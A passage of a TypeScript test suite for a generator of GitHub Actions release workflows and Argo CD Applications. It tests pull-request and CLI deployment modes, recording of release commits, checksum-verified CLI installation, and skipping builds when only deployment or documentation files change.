      // A later release: nothing orders the child's sync after the root's, and with its old spec the
      // merged commit deploys the old tag again, under the old commit.
      // (The first release merged: main is its branch.)
      git('update-ref', 'refs/heads/main', run.branch);
      const next = runReleasePullRequest(platform, origin, 'v1.2.0', 'b'.repeat(40));
      expect(next.status).toBe(0);
      expect(deployed(next.branch, show(file, run.branch))).toEqual({ tags: { app: 'v1.1.0', web: 'v1.1.0' }, migration: 'v1.1.0', revision: sha });
      expect(deployed(next.branch, show(file, next.branch))).toEqual({ tags: { app: 'v1.2.0', web: 'v1.2.0' }, migration: 'v1.2.0', revision: 'b'.repeat(40) });
    });

    test('the step run again on the file it wrote leaves it byte for byte, saying so', () => {
      const checkout = mkdtempSync(join(tmpdir(), 'release-'));
      execFileSync('git', ['clone', '-q', '--branch', run.branch, origin, join(checkout, 'manifests')], { stdio: 'pipe' });
      const before = readFileSync(join(checkout, 'manifests', file), 'utf8');
      const step = `Record the tag and the release's commit in ${file}`;
      const again = runStep(workflowOf(platform).workflow, 'deliver', step, { TAG: 'v1.1.0', GITHUB_SHA: sha, RUNNER_TEMP: mkdtempSync(join(tmpdir(), 'temp-')) }, checkout);
      expect(again.status).toBe(0);
      expect(again.stdout).toContain(`${file} has v1.1.0 and ${sha} already`);
      expect(readFileSync(join(checkout, 'manifests', file), 'utf8')).toBe(before);
    });

    test('a missing Application file stops the job with an error naming it', () => {
      const bare = manifestRepositoryOf(new ManifestRepository(platform).manifestFiles().filter((f) => f.path !== file));
      const failed = runReleasePullRequest(platform, bare, 'v1.1.0', sha);
      expect(failed.status).not.toBe(0);
      expect(failed.stdout).toContain(`::error::${file} is not in the manifest repository`);
    });

    test('without deploy feedback the job leaves the Application alone', () => {
      expect(workflowOf(platformWith('pull-request')).workflow.jobs.deliver.steps.map((s: any) => s.name ?? s.uses)).toEqual([
        'actions/checkout@v7',
        'Set main to the new tag in main/overlays/production',
        'Open the pull request',
      ]);
      expect(applicationFor(platformWith('pull-request'), app).spec.source.kustomize).toBeUndefined();
    });
  });

  describe('argocd-cli', () => {
    /** Runs the upsert step with a stand-in argocd; returns the Application it was given. */
    const upserted = (platform: ResolvedPlatform, env: Record<string, string> = {}) => {
      const { workflow } = workflowOf(platform);
      const stubs = commandStubs();
      const result = runStep(workflow, 'deliver', 'Upsert main at the new tag', { PATH: `${stubs.bin}:${process.env.PATH}`, TAG: 'v2.0.0', ...env }, mkdtempSync(join(tmpdir(), 'cli-')));
      expect(result).toMatchObject({ status: 0 });
      expect(stubs.calls().find((c) => c[0] === 'argocd')!.slice(1, 4)).toEqual(['app', 'create', '--upsert']);
      return { workflow, application: JSON.parse(readFileSync(join(stubs.bin, 'application.json'), 'utf8')) };
    };

    test('upserts the same Application the charts write, with the images at the new tag', () => {
      const platform = platformWith('argocd-cli');
      const { workflow, application } = upserted(platform);
      const expected = applicationFor(platform, platform.apps[0]);
      expect({ ...application, spec: { ...application.spec, source: { ...application.spec.source, kustomize: undefined } } }).toEqual({
        ...expected,
        spec: { ...expected.spec, source: { ...expected.spec.source, kustomize: undefined } },
      });
      const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';
      expect(application.spec.source.kustomize.images).toEqual([
        `${registry}/sandbox/main/migration:v2.0.0`,
        `${registry}/sandbox/main/app:v2.0.0`,
        `${registry}/sandbox/main/web:v2.0.0`,
      ]);
      expect(workflow.jobs.deliver.env).toMatchObject({ ARGOCD_SERVER: '${{ secrets.ARGOCD_SERVER }}', ARGOCD_AUTH_TOKEN: '${{ secrets.ARGOCD_AUTH_TOKEN }}' });
    });

    test('with deploy feedback, the same upsert records the release\'s commit in the source, where the sync finds it', () => {
      const sha = '3f2c1e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b';
      const platform = platformWith('argocd-cli', { mutate: (s) => (s.argocd = { deployFeedback: { enabled: true } }) });
      const { application } = upserted(platform, { GITHUB_SHA: sha });
      // GitHub sets GITHUB_SHA to the commit the pushed tag points to (the run's commit).
      expect(application.spec.source.kustomize.commonAnnotations).toEqual({ 'cdk-eks-gitops.io/release-revision': sha });
      expect(application.spec.source.kustomize.images.every((image: string) => image.endsWith(':v2.0.0'))).toBe(true);
      expect(application.metadata.annotations).toEqual(applicationFor(platform, platform.apps[0]).metadata.annotations);
      expect(application.metadata.annotations['cdk-eks-gitops.io/release-repository']).toBe('https://github.com/example-org/sandbox-app.git');
      // Without it, no commit is recorded.
      expect(upserted(platformWith('argocd-cli'), { GITHUB_SHA: sha }).application.spec.source.kustomize.commonAnnotations).toBeUndefined();
    });

    test('follows argocd.syncPolicy: a manual policy upserts an Application without automated sync', () => {
      const { application } = upserted(platformWith('argocd-cli', { mutate: (s) => (s.argocd = { syncPolicy: { automated: false } }) }));
      expect(application.spec.syncPolicy.automated).toBeUndefined();
      expect(application.spec.syncPolicy.syncOptions).toEqual(['CreateNamespace=true']);
    });

    test('with the vault plugin, the plugin receives image names, tag and repository as env', () => {
      const { application } = upserted(platformWith('argocd-cli', { vaultPlugin: true }));
      const env = Object.fromEntries(application.spec.source.plugin.env.map((e: any) => [e.name, e.value]));
      expect(application.spec.source.plugin.name).toBe('avp-kustomize');
      expect(env.IMAGE_TAG).toBe('v2.0.0');
      expect(env.APP_REPO).toBe('https://github.com/example-org/sandbox-app');
      expect(env.IMAGE_NAME.split(' ').map((n: string) => n.split('/').pop())).toEqual(['migration', 'app', 'web']);
    });

    test('installs the Argo CD CLI of the platform version, checked against the release checksums', () => {
      const { workflow } = workflowOf(platformWith('argocd-cli'));
      expect(workflow.jobs.deliver.env.ARGOCD_CLI_URL).toBe('https://github.com/argoproj/argo-cd/releases/download/v3.4.4/argocd-linux-amd64');
      expect(workflow.jobs.deliver.steps[0].run).toContain('sha256sum --check --ignore-missing cli_checksums.txt');
    });
  });

  test('the README of the workflow output and the header of each workflow name the secrets its mode needs', () => {
    const readme = (p: ResolvedPlatform) => new CiWorkflows(p).workflowFiles().find((f) => f.path === 'README.md')!.content;
    expect(readme(platformWith('image-updater'))).toContain('It needs no repository secrets.');
    expect(readme(platformWith('pull-request'))).toContain('`MANIFEST_REPO_TOKEN`');
    expect(readme(platformWith('argocd-cli'))).toContain('`ARGOCD_AUTH_TOKEN`');
    expect(workflowOf(platformWith('image-updater')).text.split('\n')[1]).toBe('# Repository secrets it needs: none.');
    expect(workflowOf(platformWith('pull-request')).text.split('\n')[1]).toMatch(/^# Repository secrets it needs: MANIFEST_REPO_TOKEN: may push branches/);
  });
});

describe('skipping builds when only deployment files change', () => {
  // The `changes` step's script, run in a real Git repository with release tags.
  const { workflow } = workflowOf(platformWith('image-updater'));
  const repo = mkdtempSync(join(tmpdir(), 'app-repo-'));
  const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8' }).trim();
  const commitAndTag = (file: string, tag: string) => {
    mkdirSync(dirname(join(repo, file)), { recursive: true });
    writeFileSync(join(repo, file), `${tag}\n`);
    git('add', '-A');
    git('-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', tag);
    git('tag', tag);
    return git('rev-parse', 'HEAD');
  };
  const outputsAt = (sha: string) => {
    const output = join(repo, '..', `${repo.split('/').pop()}-output`);
    writeFileSync(output, '');
    expect(runStep(workflow, 'changes', 'Compare with the previous release tag', { GITHUB_SHA: sha, GITHUB_OUTPUT: output }, repo).status).toBe(0);
    return Object.fromEntries(readFileSync(output, 'utf8').trim().split('\n').map((l) => l.split('=')));
  };
  git('init', '-q');
  const first = commitAndTag('src/main.go', 'v1.0.0');
  const deployOnly = commitAndTag('deploy/values.yaml', 'v1.0.1');
  const docsOnly = commitAndTag('docs/guide.md', 'v1.0.2');
  commitAndTag('src/other.go', 'docs-build-7');
  const source = commitAndTag('src/main.go', 'v1.1.0');

  test('the first release builds', () => expect(outputsAt(first)).toEqual({ previous: '', build: 'true' }));
  test('a release changing only deploy/ reuses the previous images', () => expect(outputsAt(deployOnly)).toEqual({ previous: 'v1.0.0', build: 'false' }));
  test('a release changing only Markdown reuses them too', () => expect(outputsAt(docsOnly)).toEqual({ previous: 'v1.0.1', build: 'false' }));
  test('a release changing source builds, compared with the previous tag of the app\'s own patterns', () => {
    // docs-build-7 matches no tag pattern of the app: the previous release is v1.0.2.
    expect(outputsAt(source)).toEqual({ previous: 'v1.0.2', build: 'true' });
  });
});
